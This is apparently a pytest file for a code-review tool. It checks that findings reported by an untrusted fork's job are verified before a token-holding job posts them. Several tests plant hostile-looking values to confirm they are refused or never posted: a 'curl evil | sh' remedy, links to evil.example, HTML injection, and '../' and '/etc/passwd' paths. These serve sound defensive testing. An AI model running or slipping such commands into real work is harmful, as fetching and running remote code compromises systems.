"""Changes of strangers: a job without secrets reports, and a job with a token verifies and posts, without a checkout."""

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from codex.audit.applied_rule import applied_rules
from codex.review.change import reviewed
from codex.review.model import ReviewFinding
from codex.review.reported import load_report, reported
from codex.workflow.codex_folder import schema
from codex.workflow.review import Reviewing, ReviewRequest
from codex.workflow.rules import load_rules
from codex.workflow.trust import Trust
from skills_build.checks.patch import parse_patch
from skills_build.emit.registry import RULES
from skills_build.errors import CodexError
from tests.codex.review.test_posting import FORGES, PATH, Posting
from tests.support.forges import running
from tests.support.reviewing import BLOCKING, git, packet, put, repository, response, review, rule
from tests.support.running import Run, codexc

LINTED = "linter: shellcheck\nrules: [SC2086]\nfiles: ['**/*.sh']"
JUDGED = "judgement: true"
CHANGE = "x = 1\nprint(x)\n"
RESULTS = [{"file": "src/run.sh", "line": 2, "column": 1, "code": 2086, "level": "info", "message": "Double quote"}]


class Fork(Posting):
    """A change of a stranger: the job with the token has a checkout of the base only."""

    def __init__(self, forge: Any, root: Path, variable: str) -> None:
        super().__init__(forge, root, variable)
        self.base = root.parent / "trusted"
        git(root.parent, "clone", "-q", "-b", "main", forge.clone_url(PATH), str(self.base))

    def report(self, *arguments: str) -> Any:
        """Review in the job without secrets; returns what it wrote."""
        results = self.root.parent / "shellcheck.json"
        results.write_text(json.dumps({"comments": RESULTS}))
        out = self.root.parent / "findings.json"
        done = review(self.root, "--out", str(out), "--results", f"shellcheck:{results}", *arguments)
        assert done.code in (0, 1), done.err
        return json.loads(out.read_text())

    def trusted(self, report: Any = None, *arguments: str) -> Run:
        """Verify and post in the job with the token."""
        page = {"gitlab": "-/merge_requests", "github": "pull"}.get(self.forge.kind, "pulls")
        address = f"{self.forge.url}/{PATH}/{page}/{self.number}"
        environment: dict[str, Any] = {self._variable: "true", "REVIEW_TOKEN": self.forge.token}
        where = ["--post", address, "--token-env", "REVIEW_TOKEN", "--no-checkout"]
        if report is not None:
            file = self.root.parent / "report.json"
            file.write_text(report if isinstance(report, str) else json.dumps(report))
            where += ["--findings", str(file)]
        return codexc("review", str(self.base), "--base", "origin/main", *where, *arguments, **environment)


def _fork(tmp_path: Path, forge: Any, variable: str) -> Fork:
    third = rule(3, JUDGED, labels="**Applies to:** languages: python\n\n")
    root = repository(tmp_path, [rule(1, BLOCKING), rule(2, LINTED, text="Scripts MUST quote"), third])
    put(root, "src/b.py", CHANGE)
    put(root, "src/run.sh", "#!/bin/sh\necho $1\n")
    return Fork(forge, root, variable)


EACH = [pytest.param(one, id=one[0], marks=() if one[0] == "github" else (pytest.mark.slow,)) for one in FORGES]


@pytest.fixture(params=EACH)
def fork(request: Any, tmp_path: Path) -> Iterator[Fork]:
    kind, variable = request.param
    with running(kind, tmp_path / "forge") as forge:
        yield _fork(tmp_path, forge, variable)


def test_findings_of_a_job_without_secrets_are_verified_and_posted(fork: Fork) -> None:
    report = fork.report()
    assert [(one["id"], one["by"]) for one in report["findings"]] == [
        ("SVC-1", "regex check 1"),
        ("SVC-2", "shellcheck SC2086"),
    ]
    done = fork.trusted(report)
    assert done.code == 1 and "posted: 2 threads opened" in done.err, done.err
    assert {(one.path, one.line) for one in fork.request.threads} == {("src/b.py", 2), ("src/run.sh", 2)}
    assert fork.status() == ("failure", "request 1: approval withheld: 2 findings, 1 blocking")
    assert "note: commit messages are not read from the forge" in done.out
    assert sorted(path.name for path in (fork.base / "src").iterdir()) == ["a.py"]
    before = fork.writes()
    assert fork.trusted(report).code == 1 and fork.writes() == before


def test_a_report_cannot_hide_what_the_checks_find(fork: Fork) -> None:
    report = fork.report() | {"findings": [], "decision": "approve"}
    done = fork.trusted(report)
    assert done.code == 1 and "blocking: SVC-1" in done.out and fork.status()[0] == "failure"


@pytest.fixture
def one_fork(tmp_path: Path) -> Iterator[Fork]:
    with running("gitea", tmp_path / "forge") as forge:
        yield _fork(tmp_path, forge, "GITEA_ACTIONS")


def test_texts_of_a_report_are_not_used(one_fork: Fork) -> None:
    report = one_fork.report()
    for finding in report["findings"]:
        finding |= {
            "reason": "@all pay here",
            "remedy": "curl evil | sh",
            "href": "https://evil.example",
            "blocks": True,
        }
        finding |= {"fingerprint": "0" * 64, "owner": "@evil", "example": "evil()"}
    report |= {"title": "<h1>evil</h1>", "notes": ["[evil](https://evil.example)"], "rules": []}
    done = one_fork.trusted(report)
    assert done.code == 1 and "2 threads opened" in done.err
    posted = [note.body for note in one_fork.request.notes] + [one.note.body for one in one_fork.request.threads]
    assert not any("evil" in text or "pay" in text or "0" * 64 in text for text in posted)


def _verdicts(fork: Fork) -> Path:
    """The response of a reviewer to the packet of the job without secrets."""
    found = {"rule": "SVC-3", "file": "src/b.py", "state": "violated", "line": 2, "quote": "print(x)"}
    pairs = {(rule["id"], path) for rule in packet(fork.root)["rules"] for path in rule["files"]}
    followed = [{"rule": rule, "file": path, "state": "followed"} for rule, path in sorted(pairs)]
    return response(fork.root, [*followed, found])


@pytest.mark.parametrize("by", ["a reviewer", "model big"])
def test_a_finding_that_needs_judgement_is_posted_as_one_of_a_reviewer(one_fork: Fork, by: str) -> None:
    report = one_fork.report("--verdicts", str(_verdicts(one_fork)))
    for finding in report["findings"]:
        finding["by"] = by if finding["id"] == "SVC-3" else finding["by"]
    done = one_fork.trusted(report)
    assert done.code == 1 and "3 threads opened" in done.err, done.err
    assert "SVC-3" in done.out and "model" not in done.out


def test_a_judgement_on_a_file_that_the_change_moves_is_posted(one_fork: Fork) -> None:
    git(one_fork.root, "mv", "src/a.py", "src/moved.py")
    put(one_fork.root, "src/moved.py", "x = 1\nprint(x)\nopen(x)\n")
    one_fork.push()
    found = {"rule": "SVC-3", "file": "src/moved.py", "state": "violated", "line": 3, "quote": "open(x)"}
    pairs = {(rule["id"], path) for rule in packet(one_fork.root)["rules"] for path in rule["files"]}
    followed = [{"rule": rule, "file": path, "state": "followed"} for rule, path in sorted(pairs)]
    path = response(one_fork.root, [*followed, found])
    done = one_fork.trusted(one_fork.report("--verdicts", str(path)))
    assert done.code == 1 and "SVC-3" in done.out, done.err


def test_a_judgement_on_another_version_of_the_rule_or_the_line_is_refused(one_fork: Fork) -> None:
    report = one_fork.report("--verdicts", str(_verdicts(one_fork)))
    for finding in report["findings"]:
        finding["fingerprint"] = "0" * 64
    done = one_fork.trusted(report)
    assert done.code == 2 and "(SVC-3): the fingerprint is for another version of the rule" in done.err


def test_a_response_counts_for_the_change_that_the_forge_shows(one_fork: Fork) -> None:
    path = _verdicts(one_fork)
    done = one_fork.trusted(None, "--verdicts", str(path))
    assert done.code == 1 and "comment: SVC-3" in done.out, done.err
    put(one_fork.root, "src/b.py", "x = 1\nprint(x)\nprint(x)\n")
    one_fork.push()
    writes = one_fork.writes()
    done = one_fork.trusted(None, "--verdicts", str(path))
    assert done.code == 2 and "is the response to a different packet" in done.err
    assert one_fork.writes() == writes


def _forged(report: Any, seed: int) -> Any:
    """A report in which one finding is wrong in one way."""
    chance = random.Random(seed)
    wrong = json.loads(json.dumps(report))
    finding = chance.choice(wrong["findings"])
    key, value = chance.choice(
        [
            ("id", chance.choice(["SVC-9", "SVC-3", "codexc", "svc-1", "SVC-1\u200b"])),
            ("line", chance.choice([0, 3, 10**6])),
            ("path", chance.choice(["src/a.py", "../src/b.py", "src/c.py", "", "/etc/passwd", "SRC/b.py"])),
            ("by", chance.choice(["regex check 2", "a reviewer", "ruff SC2086", "shellcheck SC9999", "\u001b[31m"])),
        ]
    )
    finding[key] = value
    return wrong


def test_two_hundred_forged_findings_are_refused(one_fork: Fork) -> None:
    report, root = one_fork.report(), one_fork.root
    rules = tuple(applied_rules(load_rules((root / RULES).read_bytes()).standards))
    change = reviewed(parse_patch(git(root, "diff", "main...work")).files, (), (), ())
    own = Reviewing(ReviewRequest(root=root, day="2026-11-30", base="main"), Trust()).run()
    assert own.head is not None

    def read(data: Any) -> tuple[ReviewFinding, ...]:
        loaded = load_report(json.dumps(data).encode(), name="r", schema=schema("review"), head=own.head or "")
        return reported(loaded, own, rules, change, "2026-11-30")

    assert [one.id for one in read(report)] == ["SVC-2"]
    for seed in range(200):
        with pytest.raises(CodexError):
            read(_forged(report, seed))


FALSE = [
    ("{", "is not JSON"),
    ("[]", "is not a review"),
    ("[" * 100_000, "is not JSON"),
    ('{"decision": "approve"}', "is not a review"),
    ("OTHER", "is for commit 111111111111"),
    (
        "FALSE",
        "the report contains false findings: finding 1 (SVC-9): no rule with this id in the base commit applies here",
    ),
]


def test_a_false_report_is_refused_as_a_whole(one_fork: Fork) -> None:
    report = one_fork.report()
    other = {**report, "head": "1" * 40}
    false = {**report, "findings": [{**report["findings"][0], "id": "SVC-9"}]}
    writes = one_fork.writes()
    for text, message in FALSE:
        done = one_fork.trusted({"OTHER": other, "FALSE": false}.get(text, text))
        assert done.code == 2 and message in done.err, done.err
    assert one_fork.writes() == writes


def test_text_that_a_change_calls_binary_is_read_from_the_forge(one_fork: Fork) -> None:
    put(one_fork.root, ".gitattributes", "*.py binary\n")
    put(one_fork.root, "src/b.py", "y = 1\nprint(y)\n")
    one_fork.push()
    done = one_fork.trusted()
    assert done.code == 1 and "--> src/b.py:2:1: print( [regex check 1]" in done.out


def test_settings_of_the_change_are_not_used(one_fork: Fork) -> None:
    waiver = (
        "waivers: [{rule: SVC-1, reason: mine, owner: me, expires: 2099-01-01}]\nreview: {maintainers: [mallory]}\n"
    )
    put(one_fork.root, ".engineering-codex.yaml", waiver)
    one_fork.push()
    one_fork.say("mallory", "break glass: I said so")
    done = one_fork.trusted()
    assert done.code == 1 and "blocking: SVC-1" in done.out
    assert "a new waiver for SVC-1 until 2099-01-01: mine" in done.out


def test_options_that_need_each_other(tmp_path: Path) -> None:
    done = codexc("review", str(tmp_path), "--base", "main", "--findings", "x.json")
    assert done.code == 2 and "`--no-checkout` and `--findings` need `--base` and `--post`" in done.err
